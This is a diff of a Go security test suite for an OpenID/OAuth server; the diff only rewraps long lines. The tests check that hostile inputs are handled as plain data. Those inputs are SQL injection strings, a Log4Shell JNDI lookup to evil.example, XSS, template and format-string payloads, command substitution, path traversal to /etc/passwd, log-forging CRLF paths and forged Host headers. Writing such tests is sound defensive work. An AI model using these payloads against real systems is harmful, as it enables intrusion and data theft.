@@ -13,8 +13,10 @@ import (
 // hostileTexts are what other languages and layers would run, unfold or be cut by.
 func hostileTexts() []string {
 	return []string{
-		"' OR '1'='1", `'; DROP TABLE users; --`, `" OR ""="`, "%' --", `","role":"admin`, `\","admin":true,"x":"`, "${jndi:ldap://evil.example/a}",
-		"{{7*7}}", "%s%n%x", "<script>alert(1)</script>", "../../etc/passwd", "$(id)", "`id`", "\u202egnp", "\u200b", "\ufeff", "𝕬𝖑𝖎𝖈𝖊", "😀", strings.Repeat("长", 5000),
+		"' OR '1'='1", `'; DROP TABLE users; --`, `" OR ""="`, "%' --", `","role":"admin`, `\","admin":true,"x":"`,
+		"${jndi:ldap://evil.example/a}",
+		"{{7*7}}", "%s%n%x", "<script>alert(1)</script>", "../../etc/passwd", "$(id)", "`id`", "\u202egnp",
+		"\u200b", "\ufeff", "𝕬𝖑𝖎𝖈𝖊", "😀", strings.Repeat("长", 5000),
 	}
 }
 
@@ -55,7 +57,8 @@ func TestHostileTextIsData(t *testing.T) {
 func TestHostileHeadersAreData(t *testing.T) {
 	t.Parallel()
 	w := newWorld(t)
-	for _, text := range append(hostileTexts()[:18], "\x1b[2Jcleared", "tab\tbed", "\xff\xfe", strings.Repeat("a", 4000)) {
+	for _, text := range append(hostileTexts()[:18], "\x1b[2Jcleared", "tab\tbed", "\xff\xfe",
+		strings.Repeat("a", 4000)) {
 		body, header := w.wechatCode("alice").encode()
 		if !strings.ContainsRune(text, 0x1b) { // net/http sends no such header; see the next test
 			header.Set("User-Agent", text)
@@ -87,7 +90,8 @@ func TestHostileHeadersAreData(t *testing.T) {
 func TestLogLinesAreOneEach(t *testing.T) {
 	t.Parallel()
 	w := newWorld(t)
-	for _, path := range []string{"/a%0a%7B%22level%22:%22forged%22%7D", "/token%0d%0aforged", "/%1b%5b2J", "/%22forged"} {
+	for _, path := range []string{"/a%0a%7B%22level%22:%22forged%22%7D", "/token%0d%0aforged", "/%1b%5b2J",
+		"/%22forged"} {
 		requireError(t, w.get(path, nil), http.StatusNotFound, "invalid_request")
 	}
 	w.token(form{"grant_type": "forged\nline", "client_id": "mini"})
@@ -103,7 +107,8 @@ func TestForgedHostsChangeNothing(t *testing.T) {
 	t.Parallel()
 	w := newWorld(t)
 	plain := w.get("/.well-known/openid-configuration", nil)
-	for _, name := range []string{"Host", "X-Forwarded-Host", "X-Forwarded-Proto", "Forwarded", "X-Original-URL", "X-Rewrite-URL", "X-Forwarded-Prefix"} {
+	for _, name := range []string{"Host", "X-Forwarded-Host", "X-Forwarded-Proto", "Forwarded", "X-Original-URL",
+		"X-Rewrite-URL", "X-Forwarded-Prefix"} {
 		request, err := http.NewRequest(http.MethodGet, w.issuer+"/.well-known/openid-configuration", nil)
 		require.NoError(t, err)
 		request.Header.Set(name, "evil.example")
